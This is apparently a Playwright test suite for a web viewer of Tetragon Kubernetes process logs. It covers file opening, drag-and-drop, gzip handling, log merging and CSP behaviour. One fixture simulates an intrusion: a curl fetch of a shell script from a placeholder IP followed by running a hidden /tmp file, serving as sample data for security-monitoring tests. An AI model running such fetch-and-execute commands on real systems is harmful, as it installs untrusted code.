import { mkdir, writeFile, readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { drawLog } from '../src/testing/draw-log'
import { generateSampleLog } from '../src/testing/sample-log'
import { samplePath } from './helpers/paths'
import { expect, test } from './helpers/test'

const XWING = `
  pod default/xwing container 1fb931d2 node n1
    10 /bin/bash 0s..9s
      11 /usr/bin/curl -s http://198.51.100.7/s.sh 1s..2s exit 22
      12 /bin/sh /tmp/.x 3s..8s
`
const DEATHSTAR = `
  pod default/deathstar container 836e5ba9 node n2
    20 /starwars-docker --port 80 0s..
      21 /bin/true 30s..31s
`
const xwing = drawLog(XWING)
const deathstar = drawLog(DEATHSTAR, { base: '2024-05-01T10:02:00Z' })

test('the welcome page says what to do in three lines, and gives the command that exports every line', async ({
  page,
  viewer,
}) => {
  await viewer.goto()
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Treeline')
  await expect(page.getByRole('region', { name: 'Open a log' }).getByRole('listitem')).toHaveText([
    /^Drop/,
    /^Read/,
    /^Share/,
  ])
  const command =
    'kubectl logs -n kube-system -l app.kubernetes.io/name=tetragon -c export-stdout --tail=-1 --prefix > tetragon.log'
  const item = page.getByRole('listitem').filter({ hasText: 'From the export container' })
  await expect(item.getByRole('code')).toHaveText(command)
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write'])
  await item.getByRole('button').click()
  await expect(item.getByRole('button')).toHaveText('Copied')
  expect(await viewer.clipboard()).toBe(command)
})

test('one click opens the sample, and the status bar counts what it holds', async ({ page, viewer }) => {
  const { truth } = generateSampleLog()
  const lines = Object.values(truth.events).reduce((sum, count) => sum + count, 0)
  await viewer.goto()
  await page.getByRole('button', { name: /sample/ }).click()
  await viewer.waitForIdle()
  await expect(viewer.row('default/xwing')).toBeVisible()
  await expect(viewer.status).toContainText(`${truth.execIds + truth.withoutExecId} processes`)
  await expect(viewer.status).toContainText(`${(lines - truth.duplicates).toLocaleString('en')} events`)
  await expect(viewer.status).toContainText(`${truth.pods.size} pods · ${Object.keys(truth.nodes).length} nodes`)
  await viewer.status.getByRole('button', { name: /data quality/ }).click()
  await expect(page.getByRole('dialog', { name: 'Data quality' })).toContainText(`${truth.duplicates} duplicates`)
})

test('a log is opened by picking its file', async ({ viewer, folder }) => {
  await viewer.goto()
  await viewer.openFiles(await folder.write('tetragon.log', xwing.text))
  expect(await viewer.outline()).toEqual([
    expect.stringMatching(/^default\/xwing /),
    '  /bin/bash',
    '    /usr/bin/curl -s http://198.51.100.7/s.sh',
    '    /bin/sh /tmp/.x',
  ])
  await expect(viewer.page.getByRole('banner')).toContainText('tetragon.log')
})

test('a log is opened by dropping it anywhere on the page', async ({ viewer }) => {
  await viewer.goto()
  await viewer.dropFiles({ name: 'dropped.json', content: xwing.text })
  await viewer.waitForIdle()
  await expect(viewer.row('/usr/bin/curl -s')).toBeVisible()
  await expect(viewer.page.getByRole('banner')).toContainText('dropped.json')
})

test('a dropped folder opens every file in it', async ({ viewer, folder }) => {
  const logs = join(folder.path, 'tetragon')
  await mkdir(join(logs, 'rotated'), { recursive: true })
  await writeFile(join(logs, 'tetragon.log'), deathstar.text)
  await writeFile(join(logs, 'rotated', 'tetragon-2024.log.gz'), gzipSync(xwing.text))
  await viewer.goto()
  await viewer.dropPaths(logs)
  await viewer.waitForIdle()
  await expect(viewer.page.getByRole('banner')).toContainText('2 files')
  await expect(viewer.row('default/xwing')).toBeVisible()
  await expect(viewer.row('default/deathstar')).toBeVisible()
})

test('lines are opened by pasting them', async ({ viewer }) => {
  await viewer.goto()
  await viewer.paste(xwing.text)
  await viewer.waitForIdle()
  await expect(viewer.row('/usr/bin/curl -s')).toBeVisible()
  await expect(viewer.status).toContainText('3 processes')
})

test('several files are one log on one time axis', async ({ viewer, folder }) => {
  await viewer.goto()
  await viewer.openFiles(
    await folder.write('n1.log', xwing.text),
    await folder.write('n2.log', deathstar.text),
    await folder.write('n1-again.log', `${xwing.text}\n`),
  )
  await expect(viewer.page.getByRole('banner')).toContainText('3 files')
  await expect(viewer.status).toContainText('5 processes')
  await expect(viewer.status).toContainText('2 pods · 2 nodes')
  const { from, to } = await viewer.visibleRange()
  expect(from).toBeLessThanOrEqual(Date.parse('2024-05-01T10:00:00Z'))
  expect(to).toBeGreaterThanOrEqual(Date.parse('2024-05-01T10:02:31Z'))
  await viewer.status.getByRole('button', { name: /data quality/ }).click()
  await expect(viewer.page.getByRole('dialog')).toContainText(`${xwing.lines.length} duplicates`)
})

test('a file dropped on an open log is added to it', async ({ viewer, folder }) => {
  await viewer.goto()
  await viewer.openFiles(await folder.write('n1.log', xwing.text))
  await viewer.selectRow('/usr/bin/curl -s')
  await viewer.dropFiles({ name: 'n2.log', content: deathstar.text })
  await expect(viewer.status).toContainText('2 pods · 2 nodes')
  await viewer.waitForIdle()
  await expect(viewer.row('/starwars-docker')).toBeVisible()
  await expect(viewer.details.getByRole('heading', { level: 2 })).toHaveText('/usr/bin/curl')
  expect((await viewer.visibleRange()).to).toBeGreaterThanOrEqual(Date.parse('2024-05-01T10:02:31Z'))
})

test('a gzip file is known by its bytes, whatever its name', async ({ viewer, folder }) => {
  await viewer.goto()
  await viewer.openFiles(await folder.write('tetragon.txt', gzipSync(xwing.text)))
  await viewer.selectRow('/usr/bin/curl -s')
  await viewer.page.getByRole('tab', { name: 'Raw JSON' }).click()
  await viewer.button('Copy JSON').first().click()
  await expect(viewer.page.getByRole('tabpanel')).toContainText('"process_exec"')
})

test('lines of kubectl logs are read behind their prefixes and times', async ({ viewer, folder }) => {
  const [first, ...rest] = xwing.lines
  const lines = [
    `[pod/tetragon-9x2bq/export-stdout] ${first}`,
    ...rest.map((line, i) => `[pod/tetragon-9x2bq/export-stdout] 2024-05-01T10:00:0${i}.123456789Z ${line}`),
  ]
  await viewer.goto()
  await viewer.openFiles(await folder.write('kubectl.log', `${lines.join('\n')}\n`))
  await expect(viewer.status).toContainText(`3 processes${lines.length} events`)
  await expect(viewer.status).toContainText('nothing is known to be missing')
})

test('pretty-printed documents are the same log as one event a line', async ({ viewer }) => {
  const names = 'lifecycle_sh cat nc'
    .split(' ')
    .flatMap((name) => ['exec', 'exit'].map((kind) => `${name}_process_${kind}.json`))
  names.push('cat_process_kprobe.json', 'nc_process_connect.json', 'nc_process_close.json')
  await viewer.goto()
  await viewer.openFiles(...names.map((name) => samplePath(`pretty/ebook-process-lifecycle/${name}`)))
  const outline = await viewer.outline()
  await expect(viewer.status).toContainText('9 events')
  await viewer.button('Close log').click()
  await viewer.openFiles(samplePath('ebook-process-lifecycle.ndjson'))
  await expect(viewer.status).toContainText('9 events')
  expect(outline.length).toBeGreaterThan(3)
  expect(await viewer.outline()).toEqual(outline)
})

test('several pretty-printed documents in one file are all read', async ({ viewer, folder }) => {
  const lines = (await readFile(samplePath('ebook-process-lifecycle.ndjson'), 'utf8')).trim().split('\n')
  const documents = lines.map((line) => JSON.stringify(JSON.parse(line), undefined, 2))
  await viewer.goto()
  await viewer.openFiles(await folder.write('all.json', documents.join('\n')))
  await expect(viewer.status).toContainText('9 events')
})

test('closing the log goes back to the welcome page, where another can be opened', async ({ viewer, folder }) => {
  await viewer.goto()
  await viewer.openFiles(await folder.write('n1.log', xwing.text))
  await viewer.button('Close log').click()
  await expect(viewer.button('Open the sample')).toBeVisible()
  await viewer.openFiles(await folder.write('n2.log', deathstar.text))
  await expect(viewer.status).toContainText('2 processes')
  await expect(viewer.row('default/xwing')).toHaveCount(0)
})

test('the page needs little before a log is opened', async () => {
  const html = await readFile('dist/index.html', 'utf8')
  const scripts = [...html.matchAll(/assets\/[\w.-]+\.js/g)].map(([path]) => path)
  const sizes = await Promise.all(
    [...new Set(scripts)].map(async (path) => gzipSync(await readFile(`dist/${path}`)).length),
  )
  expect(sizes.length).toBeGreaterThan(1)
  expect(sizes.reduce((sum, size) => sum + size, 0)).toBeLessThan(180_000)
})

test('where the policy of a server forbids WebAssembly, a log is read all the same, gzip too', async ({
  viewer,
  page,
  folder,
}) => {
  const problems: string[] = []
  page.on('pageerror', (error) => problems.push(error.message))
  await page.route('**/*', async (route) => {
    const response = await route.fetch()
    const headers = { ...response.headers(), 'content-security-policy': "script-src 'self'" }
    await route.fulfill({ response, headers })
  })
  await viewer.goto()
  await viewer.button('Open the sample').click()
  await expect(viewer.status).toContainText('841 processes')
  await viewer.button('Close log').click()
  const halves = [xwing.lines.slice(0, 2), xwing.lines.slice(2)].map((lines) => gzipSync(`${lines.join('\n')}\n`))
  await viewer.openFiles(await folder.write('joined.gz', Buffer.concat(halves)))
  await expect(viewer.row('/usr/bin/curl -s')).toBeVisible()
  expect(problems).toEqual([])
  const parser = page.workers().find((worker) => worker.url().includes('parse-worker'))
  const compile = (): string => {
    try {
      new WebAssembly.Module(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0)) // an empty module
      return 'allowed'
    } catch (error) {
      return (error as Error).name
    }
  }
  expect(await parser?.evaluate(compile)).toBe('CompileError')
  await page.unrouteAll({ behavior: 'wait' }) // other tests go on with this page
  await page.goto('about:blank')
})
